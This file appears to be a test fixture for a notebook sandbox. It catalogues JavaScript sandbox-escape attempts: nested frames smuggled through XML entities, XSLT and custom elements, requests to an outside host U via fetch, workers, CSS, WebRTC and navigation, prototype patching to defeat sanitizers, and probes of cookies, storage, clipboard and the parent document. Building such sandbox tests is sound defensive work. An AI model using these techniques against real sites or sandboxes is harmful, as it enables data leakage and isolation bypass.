/**
 * Ways out of a sandbox, as code that runs in one of its cells. `U` is the address of a server that
 * should hear of none of them, `STUN` one that listens for datagrams.
 */

/** Documents in this one, which would have what the lockdown has taken: how their elements come to be. */
const nested: Readonly<Record<string, string>> = {
  "nested-entity": `nest(xml("<!DOCTYPE x [<!ENTITY e \\"&#60;iframe " + X + "/>\\">]><x>&e;</x>"))`,
  "nested-entity-parameter": `nest(xml("<!DOCTYPE x [<!ENTITY % p '<!ENTITY e \\"&#38;#60;iframe " + X.replaceAll("'", "&#38;#39;") + "/>\\">'> %p;]><x>&e;</x>"))`,
  "nested-entity-object": `nest(xml("<!DOCTYPE x [<!ENTITY e \\"&#60;object " + X + "/>\\">]><x>&e;</x>"))`,
  "nested-entity-link": `const e = xml("<!DOCTYPE x [<!ENTITY e \\"&#60;link rel='preconnect' href='" + U + "' " + X + "/>\\">]><x>&e;</x>"); document.head.append(e)`,
  "nested-entity-xhtml": `const d = new DOMParser().parseFromString("<!DOCTYPE html [<!ENTITY e \\"&#60;iframe srcdoc='" + quoted(inner) + "'/>\\">]><html " + X + "><body>&e;</body></html>", "application/xhtml+xml"); document.body.append(d.documentElement)`,
  "nested-entity-template": `const t = xml("<!DOCTYPE x [<!ENTITY e \\"&#60;iframe/>\\">]><x><template " + X + "><b>&e;</b></template></x>"); document.body.append(t.content.cloneNode(true)); nest(t.content.querySelector("iframe"))`,
  "nested-entity-svg": `const d = new DOMParser().parseFromString("<!DOCTYPE svg [<!ENTITY e \\"&#60;iframe srcdoc='" + quoted(inner) + "' " + X + "/>\\">]><svg xmlns='http://www.w3.org/2000/svg'><foreignObject>&e;</foreignObject></svg>", "image/svg+xml"); document.body.append(document.adoptNode(d.documentElement))`,
  "nested-xml": `nest(xml("<x><iframe " + X + "/></x>"))`,
  "nested-xml-prefix": `nest(xml("<x><\u00e9:iframe xmlns:\u00e9='http://www.w3.org/1999/xhtml'/></x>"))`,
  "nested-xml-attlist": `nest(xml("<!DOCTYPE x [<!ATTLIST iframe xmlns CDATA #FIXED 'http://www.w3.org/1999/xhtml'>]><x><iframe/></x>"))`,
  "nested-xslt": `const p = new globalThis.XSLTProcessor(); p.importStylesheet(new DOMParser().parseFromString("<s:stylesheet version='1.0' xmlns:s='http://www.w3.org/1999/XSL/Transform'><s:template match='/'><s:element name='iframe' namespace='http://www.w3.org/1999/xhtml'/></s:template></s:stylesheet>", "text/xml")); nest(p.transformToFragment(new DOMParser().parseFromString("<x/>", "text/xml"), document).firstChild)`,
  "nested-create": `nest(document.createElement("iframe"))`,
  "nested-create-case": `for (const name of ["IFRAME", "iFrame", "x:iframe", "iframe"]) try { nest(document.createElementNS("http://www.w3.org/1999/xhtml", name)); } catch {}`,
  "nested-other-document": `nest(document.implementation.createHTMLDocument("").createElement("iframe"))`,
  "nested-other-body": `const d = document.implementation.createHTMLDocument(""); d.body.innerHTML = "<iframe></iframe>"; nest(document.importNode(d.body.firstChild, true))`,
  "nested-parsed": `nest(new DOMParser().parseFromString("<iframe></iframe>", "text/html").querySelector("iframe").cloneNode())`,
  "nested-shadow": `const d = Document.parseHTMLUnsafe("<div><template shadowrootmode=open><iframe srcdoc='" + quoted(inner) + "'></iframe></template></div>"); document.body.append(d.body.firstChild)`,
  "nested-shadow-inner": `const e = add("<div></div>"); e.attachShadow({mode: "closed"}).innerHTML = "<iframe srcdoc='" + quoted(inner) + "'></iframe>"`,
  "nested-template": `const t = document.createElement("template"); t.innerHTML = "<iframe srcdoc='" + quoted(inner) + "'></iframe>"; document.body.append(t.content.cloneNode(true))`,
  "nested-range": `nest(document.createRange().createContextualFragment("<iframe></iframe>").firstChild)`,
  "nested-foreign": `add("<svg><foreignObject><iframe srcdoc='" + quoted(inner) + "'></iframe></foreignObject></svg>"); add("<math><annotation-xml encoding='text/html'><iframe srcdoc='" + quoted(inner) + "'></iframe></annotation-xml></math>")`,
  "nested-outer": `const e = add("<div></div>"); e.outerHTML = "<iframe srcdoc='" + quoted(inner) + "'></iframe>"; add("<b></b>").insertAdjacentHTML("afterend", "<iframe srcdoc='" + quoted(inner) + "'></iframe>")`,
  "nested-construct": `nest(Reflect.construct(HTMLElement, [], HTMLIFrameElement))`,
  "nested-custom": `class F extends HTMLIFrameElement {}; customElements.define("my-frame", F); nest(new F())`,
  "nested-custom-extends": `class F extends HTMLIFrameElement {}; customElements.define("my-iframe", F, {extends: "iframe"}); nest(new F())`,
  "nested-stream": `const e = add("<p></p>"); for (const name of ["streamHTMLUnsafe", "streamAppendHTMLUnsafe"]) if (e[name]) { const w = e[name]({runScripts: true}).getWriter(); w.write("<ifr"); w.write("ame srcdoc='" + quoted(inner) + "'></iframe>"); }`,
  "nested-attribute": `const a = document.createAttribute("srcdoc"); a.value = inner; const e = add("<iframe></iframe>"); e.setAttributeNode(a); nest(e)`,
  "nested-frameset": `const d = new DOMParser().parseFromString("<frameset><frame src='" + U + "/nested-frameset'></frameset>", "text/html"); document.documentElement.append(d.body)`,
  "nested-option": `const d = xml("<!DOCTYPE x [<!ENTITY e \\"&#60;option " + X + ">&#60;iframe srcdoc='" + quoted(inner) + "'/>&#60;/option>\\">]><x>&e;</x>"); const s = add("<select></select>"); s.options[0] = d`,
  "nested-window": `const w = window.open(""); peer(w); w.fetch(U + "/nested-window")`,
  "nested-pip": `const w = await globalThis.documentPictureInPicture.requestWindow(); peer(w)`,
  "handler-attribute": `add("<img src='data:,x' onerror='fetch(\\"" + U + "/handler-attribute\\")'>")`,
  "link-javascript": `const a = add("<a href='#'>x</a>"); a.href = "javascript:fetch('" + U + "/link-javascript')"; a.addEventListener("click", (e) => e.stopImmediatePropagation()); HTMLElement.prototype.click.call(a)`
};

/** Leave the document as it is, so that all can run in one notebook. */
export const quiet: Readonly<Record<string, string>> = {
  ...nested,
  fetch: `await fetch(U + "/fetch", {mode: "no-cors"})`,
  "fetch-post": `await fetch(U + "/fetch-post", {method: "POST", body: "x", mode: "no-cors", keepalive: true})`,
  "fetch-later": `globalThis.fetchLater(U + "/fetch-later", {activateAfter: 0})`,
  xhr: `const x = new globalThis.XMLHttpRequest(); x.open("GET", U + "/xhr", false); x.send()`,
  beacon: `navigator.sendBeacon(U + "/beacon", "x")`,
  websocket: `new WebSocket(U.replace("http", "ws") + "/websocket")`,
  "event-source": `new EventSource(U + "/event-source")`,
  "web-transport": `await new WebTransport(U.replace("http:", "https:") + "/web-transport").ready`,
  image: `new Image().src = U + "/image"`,
  "image-html": `add("<img src='" + U + "/image-html'>")`,
  "image-srcset": `add("<img srcset='" + U + "/image-srcset 1x'>")`,
  "image-onerror": `add("<img src='data:,x' onerror='new Image().src = \\"" + U + "/image-onerror\\"'>")`,
  picture: `add("<picture><source srcset='" + U + "/picture'><img></picture>")`,
  video: `add("<video autoplay src='" + U + "/video'></video>")`,
  poster: `add("<video poster='" + U + "/poster'></video>")`,
  audio: `new Audio(U + "/audio").play()`,
  track: `add("<video src='data:video/mp4,'><track default src='" + U + "/track'></video>")`,
  "css-background": `add("<div style='width:9px;height:9px;background:url(" + U + "/css-background)'></div>")`,
  "css-import": `add("<style>@import '" + U + "/css-import';</style>")`,
  "css-font": `add("<style>@font-face {font-family: q; src: url(" + U + "/css-font)} b {font-family: q}</style><b>x</b>")`,
  "css-cursor": `add("<div style='cursor:url(" + U + "/css-cursor),auto'>x</div>")`,
  "css-content": `add("<style>i::before {content: url(" + U + "/css-content)}</style><i></i>")`,
  "css-adopted": `const s = new CSSStyleSheet(); s.replaceSync("body {background: url(" + U + "/css-adopted)}"); document.adoptedStyleSheets = [s]`,
  stylesheet: `head("link", {rel: "stylesheet", href: U + "/stylesheet"})`,
  icon: `head("link", {rel: "icon", href: U + "/icon"})`,
  manifest: `head("link", {rel: "manifest", href: U + "/manifest"})`,
  preload: `head("link", {rel: "preload", as: "image", href: U + "/preload"})`,
  prefetch: `head("link", {rel: "prefetch", href: U + "/prefetch"})`,
  prerender: `head("link", {rel: "prerender", href: U + "/prerender"})`,
  preconnect: `head("link", {rel: "preconnect", href: U})`,
  "preconnect-html": `add("<link rel=preconnect href=" + U + ">")`,
  "preconnect-case": `add("<b><LiNk/rel=preconnect href=" + U + "></b>")`,
  "preconnect-svg": `add("<svg><foreignObject><link rel=preconnect href=" + U + "></foreignObject></svg>")`,
  "preconnect-object": `let n = 0; const e = document.createElement({toString: () => (n++ ? "link" : "a")}); e.rel = "preconnect"; e.href = U; document.head.append(e)`,
  "preconnect-ns": `const e = document.createElementNS("http://www.w3.org/1999/xhtml", "a:link"); e.rel = "preconnect"; e.href = U; document.head.append(e)`,
  "preconnect-document": `const d = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "link"); d.documentElement.setAttribute("rel", "preconnect"); d.documentElement.setAttribute("href", U); document.head.append(d.documentElement)`,
  "preconnect-xml": `const d = new DOMParser().parseFromString("<x:link xmlns:x='http://www.w3.org/1999/xhtml' rel='preconnect' href='" + U + "'/>", "text/xml"); document.head.append(d.documentElement)`,
  "preconnect-xml-inner": `const d = document.implementation.createDocument("http://www.w3.org/1999/xhtml", "div"); d.documentElement.innerHTML = "<a.b-c:link xmlns:a.b-c='http://www.w3.org/1999/xhtml' rel='preconnect' href='" + U + "'/>"; document.head.append(d.documentElement)`,
  "preconnect-custom": `class L extends HTMLLinkElement {}; let n = 0; customElements.define("my-link", L, {get extends() { return n++ ? "link" : "a"; }}); const e = new L(); e.rel = "preconnect"; e.href = U; document.head.append(e)`,
  "preconnect-request": `const x = new globalThis.XMLHttpRequest(); x.open("GET", "data:text/html,<link rel=preconnect href=" + U + ">"); x.responseType = "document"; x.onload = () => document.head.append(x.response.querySelector("link")); x.send()`,
  "preconnect-range": `document.head.append(document.createRange().createContextualFragment("<link rel=preconnect href=" + U + ">"))`,
  "preconnect-command": `const e = add("<p contenteditable>x</p>"); e.focus(); document.execCommand("insertHTML", false, "<link rel=preconnect href=" + U + ">")`,
  "preconnect-sanitizer": `const e = add("<p></p>"); e.setHTML("<link rel=preconnect href=" + U + ">", {sanitizer: {elements: ["link"], attributes: ["rel", "href"]}})`,
  "preconnect-unsafe": `const e = add("<p></p>"); e.setHTMLUnsafe("<link rel=preconnect href=" + U + ">")`,
  "preconnect-policy": `const p = globalThis.trustedTypes.createPolicy("mine", {createHTML: (s) => s}); add(p.createHTML("<link rel=preconnect href=" + U + ">"))`,
  "dns-prefetch": `head("link", {rel: "dns-prefetch", href: U})`,
  modulepreload: `head("link", {rel: "modulepreload", href: U + "/modulepreload"})`,
  speculation: `head("script", {type: "speculationrules", textContent: JSON.stringify({prefetch: [{source: "list", urls: [U + "/speculation"]}]})})`,
  script: `head("script", {src: U + "/script"})`,
  "script-module": `head("script", {type: "module", src: U + "/script-module"})`,
  "inline-script": `head("script", {textContent: "fetch('" + U + "/inline-script')"})`,
  import: `await (0, eval)("import('" + U + "/import')")`,
  "import-blob": `await import(blob("import '" + U + "/import-blob'"))`,
  "own-loader": `await import(U + "/own-loader")`,
  "file-attachment": `await FileAttachment("/data/models.json").constructor; await fetch(U + "/file-attachment")`,
  worker: `new Worker(blob("fetch('" + U + "/worker', {mode: 'no-cors'})"))`,
  "worker-import": `new Worker(blob("importScripts('" + U + "/worker-import')"))`,
  "worker-module": `new Worker(blob("import '" + U + "/worker-module'"), {type: "module"})`,
  "worker-url": `new Worker(U + "/worker-url")`,
  "worker-nested": `new Worker(blob("new Worker(URL.createObjectURL(new Blob(['fetch(\\"" + U + "/worker-nested\\")'])))"))`,
  "worker-websocket": `new Worker(blob("new WebSocket('" + U.replace("http", "ws") + "/worker-websocket')"))`,
  "shared-worker": `new SharedWorker(blob("fetch('" + U + "/shared-worker')"))`,
  "service-worker": `await navigator.serviceWorker.register(U + "/service-worker")`,
  worklet: `const a = new AudioContext(); await a.audioWorklet.addModule(U + "/worklet")`,
  iframe: `add("<iframe src='" + U + "/iframe'></iframe>")`,
  "iframe-srcdoc": `add("<iframe srcdoc='<img src=" + U + "/iframe-srcdoc>'></iframe>")`,
  "iframe-data": `add("<iframe src='data:text/html,<img src=" + U + "/iframe-data>'></iframe>")`,
  "iframe-blob": `frame(blob("<img src='" + U + "/iframe-blob'>", "text/html"))`,
  "iframe-javascript": `frame("javascript:fetch('" + U + "/iframe-javascript')")`,
  "iframe-blank": `const w = frame("about:blank").contentWindow; await w.fetch(U + "/iframe-blank")`,
  "iframe-image": `new (frame("about:blank").contentWindow.Image)().src = U + "/iframe-image"`,
  object: `add("<object data='" + U + "/object'></object>")`,
  embed: `add("<embed src='" + U + "/embed'>")`,
  "svg-image": `add("<svg><image href='" + U + "/svg-image' width=9 height=9></image></svg>")`,
  "svg-use": `add("<svg><use href='" + U + "/svg-use#a'></use></svg>")`,
  "svg-filter": `add("<svg><filter id=f><feImage href='" + U + "/svg-filter'></feImage></filter><rect filter='url(#f)' width=9 height=9></rect></svg>")`,
  "form-blank": `const f = add("<form target=_blank action='" + U + "/form-blank'></form>"); HTMLFormElement.prototype.submit.call(f)`,
  "form-dialog": `const f = add("<form method=dialog action='" + U + "/form-dialog'></form>"); HTMLFormElement.prototype.submit.call(f)`,
  "window-open": `window.open(U + "/window-open")`,
  "link-blank": `add("<a target=_blank href='" + U + "/link-blank'>x</a>").dispatchEvent(new MouseEvent("click", {bubbles: false}))`,
  "link-ping": `add("<a ping='" + U + "/link-ping' href='#x'>x</a>").click()`,
  "link-attribution": `add("<img attributionsrc='" + U + "/link-attribution'>")`,
  peer: `peer(globalThis)`,
  "peer-nested": `peer(frame("about:blank").contentWindow)`,
  "peer-worker": `new Worker(blob("new RTCPeerConnection({iceServers: [{urls: '" + STUN + "'}]}).createDataChannel('x')"))`,
  "policy-removed": `document.querySelector("meta[http-equiv]").remove(); await fetch(U + "/policy-removed", {mode: "no-cors"})`,
  "policy-removed-image": `new Image().src = U + "/policy-removed-image"`,
  "policy-report": `head("meta", {httpEquiv: "Content-Security-Policy", content: "img-src 'none'; report-uri " + U + "/policy-report"}); new Image().src = "data:,x"`,
  base: `head("base", {href: U + "/base/"}); new Image().src = "x.png"`
};

/** Replace the document or try to: each needs a notebook of its own. */
export const loud: Readonly<Record<string, string>> = {
  location: `window.location = U + "/location"`,
  "location-href": `location.href = U + "/location-href"`,
  "location-assign": `location.assign(U + "/location-assign")`,
  "location-replace": `location.replace(U + "/location-replace")`,
  navigation: `navigation.navigate(U + "/navigation")`,
  "open-self": `window.open(U + "/open-self", "_self")`,
  top: `window.top.location = U + "/top"`,
  "top-open": `window.open(U + "/top-open", "_top")`,
  parent: `window.parent.location.href = U + "/parent"`,
  "meta-refresh": `head("meta", {httpEquiv: "refresh", content: "0;url=" + U + "/meta-refresh"})`,
  "meta-own": `for (const e of document.querySelectorAll("meta")) { e.setAttribute("http-equiv", "refresh"); e.setAttribute("content", "0;url=" + U + "/meta-own"); }`,
  "meta-entity": `document.head.append(xml("<!DOCTYPE x [<!ENTITY e \\"&#60;meta http-equiv='refresh' content='0;url=" + U + "/meta-entity' " + X + "/>\\">]><x>&e;</x>"))`,
  "nested-patched": `Array.prototype[Symbol.iterator] = function* () { yield "iframe"; }; Object.prototype.get = () => {}; String.prototype.toLowerCase = () => "b"; Element.prototype.matches = () => false; Element.prototype.querySelector = () => null; Node.prototype.nodeType = 3; nest(document.createElement("iframe"))`,
  link: `const a = add("<a href='" + U + "/link'>x</a>"); a.addEventListener("click", (e) => e.stopImmediatePropagation()); HTMLElement.prototype.click.call(a)`,
  "link-download": `add("<a download href='" + U + "/link-download'>x</a>").dispatchEvent(new MouseEvent("click"))`,
  "link-svg": `const a = add("<svg><a href='" + U + "/link-svg'><rect width=9 height=9 /></a></svg>").querySelector("a"); document.addEventListener("click", (e) => e.stopImmediatePropagation(), true); a.dispatchEvent(new MouseEvent("click"))`,
  form: `HTMLFormElement.prototype.submit.call(add("<form action='" + U + "/form'></form>"))`,
  "form-post": `HTMLFormElement.prototype.submit.call(add("<form method=post action='" + U + "/form-post'></form>"))`,
  javascript: `window.location = "javascript:'<img src=" + U + "/javascript>'"`,
  data: `window.location = "data:text/html,<img src=" + U + "/data>"`,
  blob: `window.location = blob("<img src='" + U + "/blob'>", "text/html")`,
  "document-write": `document.write("<img src='" + U + "/document-write'>")`,
  "preconnect-patched": `String.prototype.charCodeAt = () => 0; String.prototype.slice = function () { return "" + this; }; Function.prototype.call = Reflect.apply = () => ""; add("<link rel=preconnect href=" + U + ">")`,
  "javascript-preconnect": `window.location = "javascript:'<link rel=preconnect href=" + U + ">'"`,
  "document-write-preconnect": `document.write("<link rel=preconnect href=" + U + ">")`,
  "document-write-pieces": `document.write("<li"); document.write("nk rel=preconnect href=" + U + ">"); document.close()`,
  "document-open": `document.open(); document.write("<!doctype html><img src='" + U + "/document-open'>"); document.close()`,
  "document-element": `document.documentElement.innerHTML = "<body><img src='" + U + "/document-element'></body>"`,
  reload: `location.reload(); new Image().src = U + "/reload"`
};

/** Things of the site that the sandbox must not get at: each must throw or be empty. */
export const reach: Readonly<Record<string, string>> = {
  localStorage: `return localStorage.length`,
  sessionStorage: `return sessionStorage.length`,
  cookie: `return document.cookie`,
  indexedDB: `return await new Promise((y, n) => { const r = indexedDB.open("inference-lab-forks"); r.onsuccess = () => y(1); r.onerror = n; })`,
  caches: `return await caches.keys()`,
  "parent document": `return parent.document.title`,
  "top document": `return top.document.cookie`,
  "frame element": `return window.frameElement.outerHTML`,
  opener: `return window.opener.document`,
  "parent history": `return parent.history.length`,
  "parent function": `return parent.fetch("/")`,
  clipboard: `return await navigator.clipboard.readText()`,
  files: `return await navigator.storage.getDirectory()`,
  "picture in picture": `return HTMLVideoElement.prototype.requestPictureInPicture`,
  features: `return document.featurePolicy.allowedFeatures().join()`,
  dialogs: `return prompt("password?")`,
  "site file by hand": `return await (await fetch(new URL("_file/x", document.baseURI))).text()`
};

/** What attempts use. */
export const tools = `
const add = (html) => { const t = document.createElement("div"); t.innerHTML = html; document.body.append(t); return t.firstElementChild; };
const head = (tag, fields) => document.head.appendChild(Object.assign(document.createElement(tag), fields));
const blob = (text, type = "text/javascript") => URL.createObjectURL(new Blob([text], {type}));
const X = "xmlns='http://www.w3.org/1999/xhtml'";
const quoted = (text) => text.replaceAll("&", "&amp;").replaceAll("<", "&lt;").replaceAll("'", "&#39;").replaceAll('"', "&quot;");
const inner = "<script>const p = new RTCPeerConnection({iceServers: [{urls: '" + STUN + "'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))</" + "script><link rel=preconnect href=" + U + "><img src=" + U + "/nested>";
const xml = (text) => new DOMParser().parseFromString(text, "text/xml").documentElement.firstElementChild;
const nest = (f) => {
  const parent = document.createElement("div");
  document.body.append(parent);
  const span = () => parent.appendChild(document.createElement("span"));
  const range = () => { const r = document.createRange(); r.selectNodeContents(span()); return r; };
  const sources = [() => { f.srcdoc = inner; }, () => f.setAttribute("srcdoc", inner), () => f.setAttributeNS(null, "src", U + "/nested"), () => f.setAttribute("data", U + "/nested")];
  const ways = [() => parent.append(f), () => parent.appendChild(f), () => parent.insertBefore(f, null), () => parent.replaceChild(f, span()), () => parent.prepend(f), () => parent.replaceChildren(f), () => span().before(f), () => span().after(f), () => span().replaceWith(f), () => parent.insertAdjacentElement("beforeend", f), () => parent.moveBefore(f, null), () => range().insertNode(f), () => range().surroundContents(f), () => { const d = document.createDocumentFragment(); d.append(f); parent.append(d); }, () => span().attachShadow({mode: "open"}).append(f), () => { const t = parent.appendChild(new Text("x")); t.replaceWith(f); }];
  for (const act of [...sources, ...ways]) try { act(); } catch {}
};
const frame = (src) => { const f = document.createElement("iframe"); f.src = src; document.body.append(f); return f; };
const peer = (w) => { const p = new w.RTCPeerConnection({iceServers: [{urls: STUN}]}); p.createDataChannel("x"); return p.createOffer().then((o) => p.setLocalDescription(o)); };
`;
